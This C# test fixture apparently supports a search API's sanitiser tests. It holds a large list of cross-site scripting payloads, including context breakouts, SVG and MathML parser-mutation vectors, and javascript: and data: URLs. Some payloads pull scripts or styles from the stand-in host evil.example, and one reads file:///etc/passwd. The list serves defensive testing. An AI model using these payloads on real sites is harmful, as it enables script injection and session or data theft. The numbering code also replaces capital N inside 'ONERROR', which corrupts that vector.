namespace KnowledgeSearch.SearchApi.Tests.Hostile;

/// <summary>
/// Texts that try to become script: each way to run it (elements, attributes, addresses, styles, SVG, MathML, markup that changes when it is parsed twice) out of each place it may
/// land in (text, attributes, raw text elements, comments, JSON). Whoever runs calls <c>ran(number)</c>. The ways are those of OWASP's filter evasion list and of the
/// mutations that sanitisers have missed.
/// </summary>
internal static class ScriptPayloads
{
    private static readonly string[] s_vectors =
    [
        "<script>ran(N)</script>", "<ScRiPt >ran(N)</sCrIpT>", "<script/x>ran(N)</script>", "<script src=https://evil.example/N.js></script>", "<script type=module>ran(N)</script>",
        "<img src=x onerror=ran(N)>", "<img src=x oNeRrOr=ran(N) x", "<IMG SRC=\"x\" ONERROR=\"ran(N)\"/>", "<img/src=x/onerror=ran(N)>", "<img src=`x` onerror=ran(N)>", "<img srcset=x onerror=ran(N)>",
        "<svg onload=ran(N)>", "<svg/onload=ran(N)//", "<svg><script>ran(N)</script></svg>", "<svg><animate onbegin=ran(N) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:ran(N)></svg>",
        "<svg><a xlink:href=\"javascript:ran(N)\"><text y=20>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>ran(N)</script></svg>#x\"/></svg>",
        "<body onload=ran(N)>", "<iframe src=javascript:ran(N)></iframe>", "<iframe srcdoc=\"<script>parent.ran(N)</script>\"></iframe>", "<object data=javascript:ran(N)></object>", "<embed src=javascript:ran(N)>",
        "<details open ontoggle=ran(N)>x</details>", "<input autofocus onfocus=ran(N)>", "<select autofocus onfocus=ran(N)></select>", "<textarea autofocus onfocus=ran(N)></textarea>", "<video><source onerror=ran(N)></video>",
        "<audio src=x onerror=ran(N)>", "<marquee onstart=ran(N)>x</marquee>", "<a href=javascript:ran(N) autofocus onfocus=ran(N)>x</a>", "<form action=javascript:ran(N)><button autofocus onfocus=ran(N)>x</button></form>",
        "<meta http-equiv=refresh content=\"0;url=javascript:ran(N)\">", "<base href=\"https://evil.example/\">", "<link rel=stylesheet href=https://evil.example/N.css>", "<style>@import 'https://evil.example/N.css';</style>",
        "<style>*{background:url(https://evil.example/N.png)}</style>", "<p style=\"background:url(https://evil.example/N.png)\">x</p>", "<math><mtext><table><mglyph><style><img src=x onerror=ran(N)></style></mglyph></table></mtext></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:ran(N)>x</maction></math>", "<noscript><p title=\"</noscript><img src=x onerror=ran(N)>\"></noscript>", "<svg></p><style><a id=\"</style><img src=1 onerror=ran(N)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(N)>", "<template><script>ran(N)</script></template><img src=x onerror=ran(N)>", "<mark><img src=x onerror=ran(N)></mark>",
        "<x onclick=ran(N) onmouseover=ran(N) autofocus tabindex=0 onfocus=ran(N)>x</x>", "<plaintext><img src=x onerror=ran(N)>", "<xmp><img src=x onerror=ran(N)></xmp>", "<portal src=https://evil.example/N>",
        "<isindex action=javascript:ran(N) type=image>", "&lt;img src=x onerror=ran(N)&gt;", "&#60;img src=x onerror=ran(N)&#62;", "%3Cimg%20src=x%20onerror=ran(N)%3E", "\\u003cimg src=x onerror=ran(N)\\u003e", "＜img src=x onerror=ran(N)＞",
        "{{constructor.constructor('ran(N)')()}}", "${ran(N)}", "@(ran(N))", "javascript:ran(N)",
    ];

    private static readonly (string Before, string After)[] s_places = [("", ""), ("\">", ""), ("' ", " '"), ("</title>", "<title>"), ("</script>", "<script>"), ("--><!-- -->", "<!--")];

    /// <summary>Addresses that must not become links.</summary>
    public static IReadOnlyList<string> Addresses { get; } =
    [
        "javascript:ran(N)", "JaVaScRiPt:ran(N)", " javascript:ran(N)", "java\tscript:ran(N)", "java\nscript:ran(N)", "\u0001javascript:ran(N)", "javascript&colon;ran(N)", "javascript://example.org/%0aran(N)",
        "data:text/html,<script>ran(N)</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=", "vbscript:ran(N)", "view-source:javascript:ran(N)", "blob:https://evil.example/N", "file:///etc/passwd", "feed:javascript:ran(N)",
        "https://example.org/\" onmouseover=\"ran(N)", "https://example.org/' autofocus onfocus='ran(N)", "https://example.org/><img src=x onerror=ran(N)>", "//evil.example/N", "\\\\evil.example\\N",
    ];

    /// <summary>All payloads, each with its own number.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. s_places.SelectMany(place => s_vectors.Select(vector => place.Before + vector + place.After)).Select((payload, number) => payload.Replace("N", $"{number}", StringComparison.Ordinal))];
}
